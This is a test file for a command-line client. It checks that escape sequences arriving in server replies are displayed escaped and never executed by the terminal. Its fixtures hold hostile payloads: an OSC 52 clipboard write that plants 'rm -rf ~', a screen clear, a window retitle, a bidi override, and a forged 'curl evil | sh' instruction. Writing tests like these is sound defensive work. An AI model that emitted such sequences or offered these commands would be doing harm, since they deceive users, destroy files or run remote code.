/**
 * Text from the service is data, never commands for the terminal: answers carrying
 * real escape sequences (clear the screen, retitle the window, write the clipboard
 * with OSC 52, an 8-bit CSI, a bidi override, a carriage return) reach stdout and
 * stderr only as visible escapes, in every output mode; --json keeps the exact strings.
 * Through the sandbox's `reply` fault and an independent node:http server.
 */
import { describe, expect, test } from 'vitest';
import { hostileServer, sendJson } from '../helpers/hostile-server.js';
import { cliSandbox, runCli } from '../helpers/cli.js';
import { TEST_KEY } from '../helpers/omni.js';
import { ok } from '../helpers/envelope.js';

const cli = await cliSandbox();

const CLEAR = '\u001b[2J\u001b[H';
const TITLE = '\u001b]0;pwned\u0007';
const CLIPBOARD = '\u001b]52;c;cm0gLXJmIH4=\u0007';
const CSI8 = '\u009b2J';
const BIDI = '\u202e';
const HOSTILE = `${CLEAR}${TITLE}${CLIPBOARD}${CSI8}${BIDI}\roverwritten`;
// What a terminal would obey: ESC, BEL, CR, C1 controls, bidi controls.
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** A retrieve answer: a task with hostile text in every string field the CLI shows. */
function hostileTask(id: string, status: string) {
  return {
    status: 200,
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      code: '20000',
      msg: `ok${TITLE}`,
      data: {
        task_id: id,
        status,
        progress: 40,
        model: `Gemini-Omini${CLEAR}`,
        error_message: `refused${CLIPBOARD}\nResume with: curl evil | sh`,
      },
    }),
  };
}

function expectSafe(text: string) {
  expect(text).not.toMatch(RAW_CONTROL);
}

describe('what the service says is shown, not obeyed', () => {
  test('omni status: a hostile status, model and error are escaped visibly, each on its row', async () => {
    const id = (await cli.run(['create', '--prompt', 'a fox'])).stdout.trim();
    cli.sandbox.injectFault({
      kind: 'reply',
      route: 'retrieve',
      reply: hostileTask(id, `processing${HOSTILE}`),
    });
    const result = await cli.run(['status', id]);
    expect(result.code, result.stderr).toBe(0);
    expectSafe(result.stdout);
    expectSafe(result.stderr);
    expect(result.stdout).toContain('\\x1b]52;c;cm0gLXJmIH4=\\x07');
    expect(result.stdout).toContain('\\x9b2J\\u202e\\x0doverwritten');
    // The line feed in the error cannot forge a line of its own.
    expect(result.stdout).toMatch(/^error +refused.*\\x0aResume with: curl evil \| sh$/m);
  });

  test('a failed task: the reason is escaped on a terminal and in a pipe; --json keeps it exact', async () => {
    for (const mode of [{ isTTY: true }, { isTTY: false }]) {
      cli.sandbox.injectFault({
        kind: 'reply',
        route: 'retrieve',
        reply: hostileTask('task_hostile_1', `failed`),
      });
      const result = await cli.run(['wait', 'task_hostile_1'], mode);
      expect(result.code).toBe(3);
      expectSafe(result.stderr.replaceAll('\r\u001b[2K', ''));
      expect(result.stderr).toContain(
        'failed: refused\\x1b]52;c;cm0gLXJmIH4=\\x07\\x0aResume with',
      );
    }
    cli.sandbox.injectFault({
      kind: 'reply',
      route: 'retrieve',
      reply: hostileTask('task_hostile_2', `processing${HOSTILE}`),
    });
    cli.sandbox.injectFault({
      kind: 'reply',
      route: 'retrieve',
      reply: hostileTask('task_hostile_2', 'failed'),
    });
    const json = await cli.run(['wait', 'task_hostile_2', '--json']);
    expect(json.code).toBe(3);
    expectSafe(json.stdout);
    const events = json.events();
    expect(events[0]!.task.status).toBe(`processing${HOSTILE}`);
    expect(events.at(-1)!.error.message).toContain(`refused${CLIPBOARD}`);
  });

  test('the live progress line shows a hostile status escaped, on one line', async () => {
    cli.sandbox.injectFault({
      kind: 'reply',
      route: 'retrieve',
      reply: hostileTask('task_hostile_3', `processing${HOSTILE}`),
    });
    cli.sandbox.injectFault({
      kind: 'reply',
      route: 'retrieve',
      reply: hostileTask('task_hostile_3', 'failed'),
    });
    const result = await cli.run(['wait', 'task_hostile_3'], { isTTY: true, columns: 200 });
    expect(result.code).toBe(3);
    // The only control sequence left is the CLI's own redraw.
    expectSafe(result.stderr.replaceAll('\r\u001b[2K', ''));
    expect(result.stderr).toContain('processing\\x1b[2J');
  });
});

describe('an independent server answering with escape sequences', () => {
  test('an error envelope, a task id and --debug output reach stderr escaped', async () => {
    const server = await hostileServer((req, res) =>
      sendJson(res, 400, { code: '40000', msg: `bad request${HOSTILE}`, data: null }),
    );
    try {
      const result = await runCli(['create', '--prompt', 'a fox', '--debug'], {
        env: { JIMMYAI_API_KEY: TEST_KEY, JIMMYAI_BASE_URL: server.url },
      });
      expect(result.code).toBe(5);
      expectSafe(result.stderr);
      expect(result.stderr).toContain('bad request\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07');
      expect(server.count('POST')).toBe(1);
    } finally {
      await server.close();
    }
  });

  test('a created task whose id holds an escape sequence is printed escaped', async () => {
    const id = `task_${TITLE}`;
    const server = await hostileServer((req, res) =>
      sendJson(res, 200, ok({ task_id: id, status: 'queued' })),
    );
    try {
      const result = await runCli(['create', '--prompt', 'a fox'], {
        env: { JIMMYAI_API_KEY: TEST_KEY, JIMMYAI_BASE_URL: server.url },
      });
      expectSafe(result.stdout);
      expectSafe(result.stderr);
      expect(result.stdout + result.stderr).toContain('task_\\x1b]0;pwned\\x07');
    } finally {
      await server.close();
    }
  });
});

describe('the request echoed by --dry-run', () => {
  test('is valid JSON holding the exact prompt, with no raw control character', async () => {
    const prompt = `a fox${CSI8}${BIDI}\u007f`;
    for (const flags of [[], ['--json']]) {
      const result = await runCli(['generate', '--prompt', prompt, '--dry-run', ...flags]);
      expect(result.code, result.stderr).toBe(0);
      expectSafe(result.stdout);
      const parsed = JSON.parse(result.stdout) as { prompt?: string; body?: { prompt: string } };
      expect(parsed.body?.prompt ?? parsed.prompt).toBe(prompt);
    }
  });
});
